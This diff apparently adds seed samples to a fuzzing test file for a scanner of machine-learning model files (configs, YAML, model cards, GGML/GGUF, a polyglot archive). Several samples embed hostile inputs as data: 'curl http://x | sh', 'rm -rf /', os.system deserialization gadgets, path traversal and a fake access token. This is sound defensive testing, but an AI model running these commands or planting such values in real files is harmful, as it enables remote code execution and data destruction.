@@ -1,6 +1,6 @@
 /** One well-formed file of each format, small, with something in it to find: what fuzzing starts from. */
 import { deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
-import { concat, utf8 } from '#formats/test-files/bytes';
+import { concat, u32, utf8 } from '#formats/test-files/bytes';
 import { makeCheckpoint } from '#formats/test-files/checkpoint';
 import { makeTflite, operator, operatorCode } from '#formats/test-files/flatbuffer';
 import { makeGguf } from '#formats/test-files/gguf';
@@ -77,6 +77,63 @@ export const fuzzSamples: readonly (readonly [name: string, bytes: Uint8Array])[
   ['npy', concat('\x93NUMPY\x01\x00', 118, 0, "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".padEnd(117), '\n', attack)],
   ['configuration', utf8(JSON.stringify({ tokenizer_class: 'X', chat_template: template, auto_map: { a: 'b' } }))],
   ['template', utf8(template)],
+  [
+    'configuration with everything',
+    utf8(
+      JSON.stringify({
+        ...{ _target_: 'os.system', _args_: ['id'], vocab_file: '../x', weight_map: { a: '/x' }, token: 'hf_abcdefghijklmnopqrst' },
+        ...{
+          payload: Buffer.from(attack).toString('base64'),
+          added_tokens_decoder: { 1: { content: '\u202e' } },
+          hook: 'curl http://x | sh',
+        },
+      }),
+    ),
+  ],
+  [
+    'yaml',
+    utf8(
+      'a: &a [1, "x"]\nb: !!python/object/apply:os.system\n- id\nc: {_target_: evil.x, d: *a}\n? !k e\n: |\n  {{ x.__class__ }}\n---\nf: >-\n  g\n',
+    ),
+  ],
+  ['model card', utf8('---\nlicense: mit\ntags:\n- a\nhook: rm -rf /\n---\n# Title\n\nWords.\n')],
+  [
+    'ggml',
+    concat(
+      'tjgg',
+      u32(3),
+      u32(1),
+      u32(8),
+      u32(256),
+      u32(1),
+      u32(1),
+      u32(8),
+      u32(2),
+      u32(1),
+      'a',
+      u32(0),
+      u32(1),
+      u32(1),
+      u32(0),
+      u32(8),
+      't',
+      new Uint8Array(64),
+    ),
+  ],
+  [
+    'gguf of the other byte order',
+    makeGguf({
+      bigEndian: true,
+      pairs: [
+        ['a', template],
+        ['b', ['x', 'y']],
+      ],
+      tensors: [['t', [8], 0, 0]],
+      data: 32,
+    }),
+  ],
+  ['gguf version 1', makeGguf({ version: 1, pairs: [['a', 'b']], tensors: [['t', [8], 0, 0]], data: 32 })],
+  ['program with an archive', concat("MZqFpD='\n", new Uint8Array(80), makeZip([{ name: 'x', data: attack }]))],
   [
     'Keras configuration',
     utf8(
